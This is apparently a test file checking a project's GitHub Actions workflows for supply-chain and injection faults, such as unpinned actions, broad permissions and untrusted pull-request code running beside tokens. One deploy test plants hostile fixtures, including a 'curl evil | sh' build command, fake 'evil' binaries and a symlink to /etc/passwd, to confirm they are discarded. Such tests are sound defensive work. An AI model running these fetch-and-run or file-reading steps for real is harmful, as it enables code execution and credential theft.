import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, relative } from 'node:path';
import { parse } from 'yaml';
import { LOCAL_DIRECTORY, PROJECT_DIRECTORY } from '../../local/project-directory';
import { describeWith } from '../support/machine';
import { ACTIONLINT, findActionlint, OPTIONS } from './actionlint';
import { workflowFaults } from './workflow-faults';

const folder = join(PROJECT_DIRECTORY, '.github', 'workflows');
const workflows = readdirSync(folder).filter((file) => /\.ya?ml$/.test(file));
const read = (file: string) => readFileSync(join(folder, file), 'utf8');

/** A workflow without fault, until `change` replaces something in it. */
const faultless = (change: [string, string] = ['', '']) =>
  `on: [push]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
      - uses: ./local
      - run: echo "$NAME" "\${{ runner.os }}"
        env:
          NAME: \${{ github.event.pull_request.title }}
`.replace(...change);

test('there is the workflow that decides whether a change lands', () => {
  expect(workflows).toContain('ci.yml');
});

test.each(workflows)('%s has none of the faults that are looked for', (file) => {
  expect(workflowFaults(read(file))).toEqual([]);
});

test('ci.yml tests every Node that package.json promises, and lints by the same actionlint as the test', () => {
  const ci = read('ci.yml');
  expect(ci).toContain('node: [20, 22, 24]');
  expect(ci).toContain(`go run ${ACTIONLINT} ${OPTIONS.join(' ')}\n`);
});

test.each<[string, [string, string], string]>([
  [
    'a tag in the place of a commit',
    [/@\w{40}/.exec(faultless())?.[0] ?? '', '@v7'],
    'is not pinned by a commit',
  ],
  ['a commit without its version', [' # v7.0.1', ''], 'lacks the comment'],
  ['a comment that tells less than the version', ['# v7.0.1', '# v7'], 'lacks the comment'],
  ['pull_request_target', ['[push]', 'pull_request_target'], 'runs on pull_request_target'],
  [
    'pull_request_target among others',
    ['[push]', '{ push: , pull_request_target: }'],
    'runs on pull_request_target',
  ],
  ['no permissions', ['permissions:\n  contents: read\n', ''], 'lists no permissions'],
  ['all permissions', ['\n  contents: read', ' write-all'], 'lists no permissions'],
  ['the right to write', ['contents: read', 'contents: write'], 'every job gets contents: write'],
  ['another right', ['contents: read', 'id-token: write'], 'every job gets id-token: write'],
  ['a job without an end', ['    timeout-minutes: 5\n', ''], 'has no timeout-minutes'],
  ['a title in a script', ['runner.os', 'github.event.issue.title'], 'pass it by env'],
  ["a branch's name in a script", ['runner.os', "format('{0}', github.head_ref)"], 'pass it by env'],
  ['what is not YAML', ['jobs:', 'jobs: ]'], 'is not YAML'],
])('%s is a fault', (_what, change, fault) => {
  expect(workflowFaults(faultless())).toEqual([]);
  const changed = faultless(change);
  expect(changed).not.toBe(faultless());
  expect(workflowFaults(changed)[0]).toContain(fault);
});

/** A job that gets credentials, without fault, until `change` replaces something in it. */
const credentialed = (change: [string, string] = ['', '']) =>
  `on: [workflow_dispatch]
permissions:
  contents: read
jobs:
  deploy:
    runs-on: [self-hosted, vpc]
    environment: prod
    timeout-minutes: 5
    permissions:
      id-token: write
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          ref: main
      - run: npx --no-install aurora-iam check prod
`.replace(...change);

test.each<[string, [string, string], string]>([
  ['an installation', ['npx --no-install aurora-iam', 'npm ci &&'], 'runs npm ci'],
  [
    'one that says it runs no scripts',
    ['npx --no-install aurora-iam', 'npm ci --ignore-scripts #'],
    'runs npm ci',
  ],
  ['a script of the package', ['npx --no-install aurora-iam', 'npm run'], 'runs npm run'],
  ['another installer', ['npx --no-install aurora-iam', 'pip install x;'], 'runs pip install'],
  ['a package from the registry', ['npx --no-install', 'npx'], 'npx without --no-install'],
  ['another one, which is asked first', ['npx --no-install', 'npx --yes'], 'npx without --no-install'],
  [
    'the code of a request',
    ['ref: main', 'ref: ${{ github.event.pull_request.head.sha }}'],
    'checks out a pull request',
  ],
  ['the branch of a request', ['ref: main', 'ref: ${{ github.head_ref }}'], 'checks out a pull request'],
  ['no environment', ['    environment: prod\n', ''], 'names no environment'],
])('beside a token, %s is a fault', (_what, change, fault) => {
  expect(workflowFaults(credentialed())).toEqual([]);
  const changed = credentialed(change);
  expect(changed).not.toBe(credentialed());
  expect(workflowFaults(changed)).toEqual([expect.stringContaining(fault)]);
  // All rights are that one, too.
  const allRights = changed.replace('\n      id-token: write', ' write-all');
  expect(workflowFaults(allRights)).toEqual([expect.stringContaining(fault)]);
});

test.each<[string, string]>([
  ['a token', 'asks for an OIDC token'],
  ['an environment', 'names an environment'],
  ['a machine of our own', 'runs on a machine of our own'],
])('a pull request gets no job with %s', (_what, fault) => {
  for (const event of ['pull_request', 'workflow_run', 'issue_comment', 'pull_request_review'])
    expect(workflowFaults(credentialed(['workflow_dispatch', event]))).toContainEqual(
      `job deploy runs for strangers and ${fault}`,
    );
});

test('a pull request gets no secret and no right to write', () => {
  const asked = (change: [string, string]) =>
    workflowFaults(faultless(change).replace('[push]', 'pull_request'));
  expect(asked(['', ''])).toEqual([]);
  expect(asked(['${{ runner.os }}', '${{ secrets.KEY }}'])).toEqual([
    'job test runs for strangers and reads secrets',
  ]);
  expect(asked(['    steps', '    permissions:\n      pull-requests: write\n    steps'])).toEqual([
    'job test runs for strangers and may write',
  ]);
});

test('what reviews a pull request is the code that it is to be merged into', () => {
  const { jobs } = parse(read('plan.yml')) as {
    jobs: Record<
      string,
      { needs?: string; steps: { uses?: string; with?: Record<string, string>; run?: string }[] }
    >;
  };
  const reviewing = Object.entries(jobs).filter(([, { steps }]) =>
    steps.some(({ run = '' }) => run.includes('aurora-iam review')),
  );
  expect(reviewing.map(([name]) => name)).toEqual(['review']);
  const steps = jobs['review']?.steps ?? [];
  const refs = steps
    .filter(({ uses = '' }) => uses.startsWith('actions/checkout@'))
    .map((step) => step.with?.['ref']);
  expect(refs).toEqual(['${{ github.event.pull_request.base.sha }}']);
  // Of the request only its plans come in, after everything that runs code for them.
  const artifacts = steps.filter(({ uses = '' }) => uses.startsWith('actions/download-artifact@'));
  expect(artifacts.map((step) => step.with)).toEqual([{ name: 'plans', path: 'plans/head' }]);
  const uploaded = jobs['request']?.steps.filter(({ uses = '' }) =>
    uses.startsWith('actions/upload-artifact@'),
  );
  expect(uploaded?.map((step) => step.with?.['path'])).toEqual(['plans/*.plan.json']);
});

describe('deploy.yml', () => {
  const { jobs } = parse(read('deploy.yml')) as {
    jobs: Record<string, { permissions?: unknown; steps: { id?: string; run?: string }[] }>;
  };
  const commands = (job: string) => (jobs[job]?.steps ?? []).map(({ run = '' }) => run).join('\n');

  test('installs without scripts, and synthesizes, where there is no token', () => {
    expect(Object.keys(jobs)).toEqual(['tools', 'stacks', 'deploy']);
    expect(commands('tools')).toContain('npm ci --ignore-scripts');
    expect(commands('stacks')).toContain('cdktf synth');
    expect([jobs['tools']?.permissions, jobs['stacks']?.permissions]).toEqual([undefined, undefined]);
    expect(commands('deploy')).not.toMatch(/npm ci|cdktf synth/);
  });

  test('takes the tools only as they were packed, and of the stacks only what Terraform reads', () => {
    const folder = mkdtempSync(join(tmpdir(), 'unpack-'));
    const write = (file: string, text: string) => {
      mkdirSync(dirname(join(folder, file)), { recursive: true });
      writeFileSync(join(folder, file), text);
    };
    write('packed/.terraform-version', '1.11.4');
    write('packed/cli/bin.cjs', 'ours');
    write('artifacts/tools/x', '');
    expect(
      spawnSync('tar', ['-czf', 'artifacts/tools/tools.tgz', '-C', 'packed', '.'], { cwd: folder }).status,
    ).toBe(0);
    const stack = 'artifacts/stacks/stacks/dev-database';
    write('artifacts/stacks/manifest.json', '{}');
    write(`${stack}/cdk.tf.json`, '{}');
    write(`${stack}/certificate-authorities.pem`, '');
    // What a program that synthesizes could leave behind for the next job to run.
    write(`${stack}/cdktf.json`, '{"context": {"aurora-iam": {"build": "curl evil | sh"}}}');
    write(`${stack}/node_modules/.bin/aurora-iam`, 'evil');
    write('artifacts/stacks/cli/bin.cjs', 'evil');
    symlinkSync('/etc/passwd', join(folder, stack, 'manifest.json'));
    const unpack = (sha256: string) =>
      spawnSync(
        'bash',
        ['-eo', 'pipefail', '-c', jobs['deploy']?.steps.find(({ id }) => id === 'terraform')?.run ?? 'false'],
        {
          cwd: folder,
          encoding: 'utf8',
          env: { ...process.env, RUNNER_TEMP: folder, GITHUB_OUTPUT: join(folder, 'output'), SHA256: sha256 },
        },
      );
    try {
      expect(unpack('0'.repeat(64)).status).not.toBe(0);
      expect(existsSync(join(folder, 'project'))).toBe(false);
      const digest = createHash('sha256')
        .update(readFileSync(join(folder, 'artifacts/tools/tools.tgz')))
        .digest('hex');
      expect(unpack(digest)).toMatchObject({ status: 0, stderr: '' });
      const files = readdirSync(join(folder, 'project'), { recursive: true, withFileTypes: true })
        .filter((entry) => !entry.isDirectory())
        .map((entry) => relative(join(folder, 'project'), join(entry.parentPath, entry.name)));
      expect(files.sort()).toEqual([
        '.terraform-version',
        'cdktf.out/manifest.json',
        'cdktf.out/stacks/dev-database/cdk.tf.json',
        'cdktf.out/stacks/dev-database/certificate-authorities.pem',
        'cli/bin.cjs',
      ]);
      expect(readFileSync(join(folder, 'project/cli/bin.cjs'), 'utf8')).toBe('ours');
      expect(readFileSync(join(folder, 'output'), 'utf8')).toBe('version=1.11.4\n');
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});

describeWith(['actionlint'], 'actionlint', () => {
  const lint = (files: readonly string[], input = '') => {
    const command = findActionlint(join(LOCAL_DIRECTORY, 'tools')) ?? 'actionlint';
    const { status, stdout, stderr } = spawnSync(command, [...OPTIONS, '-no-color', '-oneline', ...files], {
      cwd: PROJECT_DIRECTORY,
      input,
      encoding: 'utf8',
    });
    return { status, output: stdout + stderr };
  };

  test('finds nothing in any workflow', () => {
    expect(lint(workflows.map((file) => join('.github', 'workflows', file)))).toEqual({
      status: 0,
      output: '',
    });
  });

  test('would find something', () => {
    expect(lint(['-'], faultless()).status).toBe(0);
    expect(lint(['-'], faultless(['ubuntu-24.04', 'ubuntu-1.0']))).toMatchObject({ status: 1 });
  });
});
